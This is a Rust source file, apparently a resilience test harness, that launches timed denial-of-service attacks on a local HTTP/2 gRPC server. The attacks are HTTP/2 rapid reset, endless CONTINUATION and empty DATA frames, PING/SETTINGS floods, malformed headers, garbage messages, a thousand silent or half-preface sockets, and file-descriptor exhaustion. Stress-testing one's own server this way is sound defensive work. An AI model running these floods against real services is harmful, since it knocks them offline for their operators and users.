//! The attackers of the tests, going on for a time. Each attack is a process of its own with the lowest priority: on this
//! machine it shares the cores with its victim, elsewhere it would not.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use crate::Result;
use crate::frames::{
    CANCEL, CONTINUATION, Client, DATA, END_HEADERS, HEADERS, MAGIC, PING, RST_STREAM, SETTINGS, call, frame, stream,
};

/// The flag of a stream's last frame.
const END_STREAM: u8 = 1;
/// Connections of one flood.
const CONNECTIONS: usize = 4;
const SILENT: usize = 1_000;
/// Addresses that the silent have, so that each of them is within its limit of connections.
const ADDRESSES: usize = 8;
/// More than are left to the victim.
const WITHOUT_FILES: usize = 50;
const OPEN: &str = "/rolecall.v1.SessionService/SignIn";

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    RapidReset,
    MalformedHeaders,
    Continuation,
    EmptyData,
    Pings,
    Garbage,
    Silence,
    Crowd,
    NoFiles,
}

impl Attack {
    pub const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::MalformedHeaders,
        Self::Continuation,
        Self::EmptyData,
        Self::Pings,
        Self::Garbage,
        Self::Silence,
        Self::Crowd,
        Self::NoFiles,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MalformedHeaders => "malformed HEADERS",
            Self::Continuation => "CONTINUATION without end",
            Self::EmptyData => "empty DATA without end",
            Self::Pings => "PING and SETTINGS without end",
            Self::Garbage => "garbage for messages",
            Self::Silence => "1000 silent sockets",
            Self::Crowd => "1000 sockets of one address",
            Self::NoFiles => "no files left",
        }
    }

    pub fn named(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|attack| attack.name() == name)
    }

    pub async fn run(self, victim: SocketAddr, time: Duration) -> Result<()> {
        let end = Instant::now() + time;
        let mut attackers = JoinSet::new();
        let number = match self {
            Self::Silence | Self::Crowd => SILENT,
            Self::NoFiles => WITHOUT_FILES,
            _ => CONNECTIONS,
        };
        for number in 0..number {
            attackers.spawn(async move {
                while Instant::now() < end {
                    match self {
                        Self::Silence => silence(Some(number % ADDRESSES), victim, number, end).await,
                        Self::Crowd | Self::NoFiles => silence(None, victim, number, end).await,
                        _ => self.flood(victim, end).await,
                    }
                }
            });
        }
        attackers.join_all().await;
        Ok(())
    }

    /// Floods a connection until the victim hangs up.
    async fn flood(self, victim: SocketAddr, end: Instant) {
        let block = match self {
            Self::MalformedHeaders => call(OPEN, &[("connection", "close")]),
            _ => call(OPEN, &[]),
        };
        let mut client = Client::connect(victim).await;
        match self {
            Self::Continuation => drop(client.send(&frame(HEADERS, 0, 1, &block)).await),
            Self::EmptyData => drop(client.send(&frame(HEADERS, END_HEADERS, 1, &block)).await),
            _ => {}
        }
        let mut round = 0;
        // Streams have no more numbers than this.
        while Instant::now() < end && round < 1_000_000_000 {
            let mut bytes = Vec::new();
            while bytes.len() < 16 * 1024 {
                bytes.extend(self.frames(round, &block));
                round += 1;
            }
            if !client.send(&bytes).await {
                return;
            }
        }
    }

    fn frames(self, round: u32, block: &[u8]) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let mut bytes = frame(HEADERS, END_HEADERS, stream(round), block);
                bytes.extend(frame(RST_STREAM, 0, stream(round), &CANCEL.to_be_bytes()));
                bytes
            }
            Self::MalformedHeaders => frame(HEADERS, END_HEADERS, stream(round), block),
            Self::Continuation => frame(CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Garbage => {
                let mut bytes = frame(HEADERS, END_HEADERS, stream(round), block);
                bytes.extend(frame(DATA, END_STREAM, stream(round), &[0, 0, 0, 0, 4, 0xff, 0xff, 0xff, 0xff]));
                bytes
            }
            Self::Pings | Self::Silence | Self::Crowd | Self::NoFiles => {
                let mut bytes = frame(PING, 0, 0, &[0; 8]);
                bytes.extend(frame(SETTINGS, 0, 0, &[]));
                bytes
            }
        }
    }
}

/// Connects, says nothing or half of the preface, and waits to be hung up on.
async fn silence(from: Option<usize>, victim: SocketAddr, number: usize, end: Instant) {
    let Ok(mut stream) = connect(from, victim).await else { return };
    let _ = stream.write_all(&MAGIC[..[0, 12, 24][number % 3]]).await;
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(end.saturating_duration_since(Instant::now()), stream.read_to_end(&mut rest)).await;
    // Turned away: whoever has a thousand sockets does not try again at once with each of them.
    tokio::time::sleep(Duration::from_millis(200)).await;
}

/// From one of several addresses, or from the one that the system chooses.
async fn connect(from: Option<usize>, victim: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(from) = from {
        let address =
            Ipv4Addr::from_bits(Ipv4Addr::new(127, 0, 1, 1).to_bits() + u32::try_from(from).map_err(io::Error::other)?);
        socket.bind((address, 0).into())?;
    }
    socket.connect(victim).await
}
